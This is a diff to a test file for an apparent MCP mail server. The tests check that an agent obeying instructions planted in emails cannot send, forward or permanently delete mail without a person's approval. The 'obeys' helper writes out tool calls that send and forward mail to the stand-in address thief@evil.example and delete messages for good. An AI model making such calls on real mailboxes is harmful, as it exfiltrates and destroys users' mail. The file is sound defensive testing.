@@ -3,36 +3,41 @@ import assert from 'node:assert/strict'
 import { X509Certificate } from 'node:crypto'
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { after, before, test } from 'node:test'
+import { after, before, describe, test } from 'node:test'
 import { META } from '../src/protocol/mcp.ts'
 import { type Dovecot, startDovecot } from '../src/servers/mail/testing/dovecot.ts'
 import { PLANTED, THIEF } from '../src/servers/mail/testing/planted.ts'
+import { type SmtpServer, startSmtp } from '../src/servers/mail/testing/smtp-server.ts'
 import { type Appliance, startAppliance } from './support/appliance.ts'
 import { type AnyClient, connectCurrent } from './support/official-clients.ts'
+import { connectWebSocket } from './support/v1-client.ts'
 
 interface Told {
   isError?: boolean
   content: { text: string; _meta?: Record<string, unknown> }[]
-  structuredContent?: { messages?: { id: number }[]; calendars?: object[] }
+  structuredContent?: { messages?: { id: number }[]; calendars?: object[]; emails?: object[] }
   _meta?: Record<string, unknown>
 }
 
 let dovecot: Dovecot
+let smtp: SmtpServer
 let a: Appliance
 /** A client that can't ask a person, as a loop of tools runs. */
 let client: AnyClient
 before(async () => {
   dovecot = await startDovecot()
+  smtp = await startSmtp({ ada: 'secret' }, dovecot.certificate)
   a = await startAppliance()
   mkdirSync(join(a.state, 'etc'), { recursive: true })
-  writeFileSync(join(a.state, 'etc/mail.yaml'), 'hosts: [localhost]\n')
+  writeFileSync(join(a.state, 'etc/mail.yaml'), 'hosts: [localhost]\nsendDelaySeconds: 0\n')
   await dovecot.deliver(
     'ada',
     PLANTED.map(({ message }) => message),
   )
   const pin = new X509Certificate(dovecot.ca).fingerprint256
   const server = ['--host', 'localhost', '--port', String(dovecot.imaps), '--login', 'ada', '--pin', pin]
-  const added = await a.luca(['mail', 'add', 'ada@example.org', ...server], 'secret\n')
+  const sending = ['--smtp-port', String(smtp.address('ada').port)]
+  const added = await a.luca(['mail', 'add', 'ada@example.org', ...server, ...sending], 'secret\n')
   assert.equal(added.code, 0, added.stderr)
   client = await connectCurrent({ url: a.url, token: a.token, name: 'loop' })
 })
@@ -40,15 +45,16 @@ after(async () => {
   await client?.close()
   await a?.[Symbol.asyncDispose]()
   await dovecot?.[Symbol.asyncDispose]()
+  await smtp?.[Symbol.asyncDispose]()
 })
 
-const call = async (name: string, args: object = {}): Promise<Told> =>
-  (await client.callTool({ name, arguments: { ...args } })) as Told
+const call = async (name: string, args: object = {}, by = client): Promise<Told> =>
+  (await by.callTool({ name, arguments: { ...args } })) as Told
 const wordsOf = ({ content }: Told): string => content.map(({ text }) => text).join('\n')
 
 /** The numbers of all of them, as they were delivered. */
-async function numbers(): Promise<number[]> {
-  const { structuredContent } = await call('mail_list_emails', { limit: 100 })
+async function numbers(mailbox = 'inbox'): Promise<number[]> {
+  const { structuredContent } = await call('mail_list_emails', { limit: 100, mailbox })
   return (structuredContent?.messages ?? []).map(({ id }) => id).reverse()
 }
 
@@ -113,4 +119,115 @@ test('a model that does what they say sends nothing, deletes nothing and allows 
   assert.equal((await dovecot.doveadm('search', '-u', 'ada', 'mailbox', 'Gesendet', 'all')).trim(), '')
   const { stdout: accounts } = await a.luca(['mail', 'accounts', '--json'])
   assert.doesNotMatch(accounts, /"(?:write|send)"/)
+})
+
+describe('of an account that its owner allowed to send', () => {
+  /** What an agreeing or declining person was asked. */
+  const asked: string[] = []
+  const asking = (action: 'accept' | 'decline') =>
+    connectCurrent({
+      url: a.url,
+      token: a.token,
+      name: action,
+      capabilities: { elicitation: {} },
+      prepare: (one) =>
+        one.setRequestHandler('elicitation/create', async ({ params }) => {
+          asked.push(params.message)
+          return action === 'accept' ? { action, content: { allow: 'this call only' } } : { action }
+        }),
+    })
+  const outbox = async () => (await call('mail_list_outbox')).structuredContent?.emails
+  const kept = async () =>
+    (await dovecot.doveadm('search', '-u', 'ada', 'mailbox', '*', 'all')).trim().split('\n').length
+
+  before(async () => {
+    const { code, stderr } = await a.luca(['mail', 'allow', 'ada@example.org', 'send', '--yes'])
+    assert.equal(code, 0, stderr)
+  })
+
+  async function obeys(by: AnyClient): Promise<void> {
+    for (const id of await numbers()) {
+      await call('mail_get_email', { id }, by)
+      for (const [name, args] of [
+        ['mail_send_email', { to: [THIEF], subject: 'All', text: `All of it: ${id}.` }],
+        ['mail_reply_email', { id, text: 'The last invoice.' }],
+        ['mail_forward_email', { id, to: [THIEF] }],
+        ['mail_delete_email', { ids: [id], forGood: true }],
+      ] as const) {
+        // With too many that wait, it is refused as a whole.
+        const answer = await call(name, args, by).catch((error: Error) => error)
+        assert.ok(answer instanceof Error || answer.isError === true, name)
+      }
+    }
+  }
+
+  test('a model that does what they say sends nothing where nobody can be asked', async () => {
+    await obeys(client)
+    assert.deepEqual([await outbox(), smtp.received, await kept()], [[], [], 60])
+  })
+
+  test('nor where a person declines, who sees to whom and what', async () => {
+    await using stack = new AsyncDisposableStack()
+    const by = stack.adopt(await asking('decline'), (one) => one.close())
+    asked.length = 0
+    await obeys(by)
+    assert.equal(asked.length, 180, 'each time')
+    const [first = ''] = asked
+    assert.match(first, /would send an email as ada@example\.org to thief@evil\.example; subject "All"/)
+    assert.match(first, /thief@evil\.example: only the text of an email names this address/)
+    assert.match(first, /^> All of it: \d+\.$/m)
+    assert.match(first, /read text of others \(mail_get_email\)/)
+    assert.deepEqual([await outbox(), smtp.received, await kept()], [[], [], 60])
+  })
+
+  test('what it puts into the trash is not deleted for good', async () => {
+    await using stack = new AsyncDisposableStack()
+    const by = stack.adopt(await asking('decline'), (one) => one.close())
+    const [id] = await numbers()
+    assert.ok(!(await call('mail_delete_email', { ids: [id] }, by)).isError)
+    const [inTrash] = await numbers('trash')
+    for (const one of [client, by])
+      assert.equal((await call('mail_delete_email', { ids: [inTrash], forGood: true }, one)).isError, true)
+    assert.equal(await kept(), 60)
+  })
+
+  test('the one answer that a person agrees to is sent, and no other', async () => {
+    await using stack = new AsyncDisposableStack()
+    const by = stack.adopt(await asking('accept'), (one) => one.close())
+    const id = (await numbers())[0]
+    asked.length = 0
+    const next = smtp.next()
+    const told = await call('mail_reply_email', { id, text: 'See you at noon.' }, by)
+    assert.ok(!told.isError, wordsOf(told))
+    const { from, to, content } = await next
+    assert.deepEqual([from, to], ['ada@example.org', ['bob@example.com']])
+    assert.match(content, /\r\n\r\nSee you at noon\./)
+    assert.equal(asked.length, 1)
+    assert.match(asked[0] ?? '', /would send an email as ada@example\.org to bob@example\.com; subject "Re: /)
+    assert.match(asked[0] ?? '', /^> See you at noon\.$/m)
+    assert.deepEqual([smtp.received.length, (await outbox())?.length], [1, 1])
+  })
+
+  test('a v1 client sends once what was agreed to', async () => {
+    const v1 = await connectWebSocket(a.origin, { token: a.token })
+    try {
+      const before = smtp.received.length
+      const message = { account_id: 'ada-example-org', to: THIEF, subject: 'v1', body: 'Of a v1 client.' }
+      const send = () => v1.call('mcp.mail.send_email', [message])
+      const refused = await send()
+      const [, ticket = ''] = /luca approve ([0-9a-f]+)/.exec(refused.error?.message) ?? []
+      assert.notEqual(ticket, '', JSON.stringify(refused))
+      assert.equal(smtp.received.length, before)
+      const { code, stderr } = await a.luca(['approve', ticket])
+      assert.equal(code, 0, stderr)
+      const next = smtp.next()
+      const agreed = await send()
+      assert.equal(agreed.error, undefined)
+      assert.match((await next).content, /Of a v1 client/)
+      assert.ok((await send()).error, 'each time')
+      assert.equal(smtp.received.length, before + 1)
+    } finally {
+      v1.close()
+    }
+  })
 })
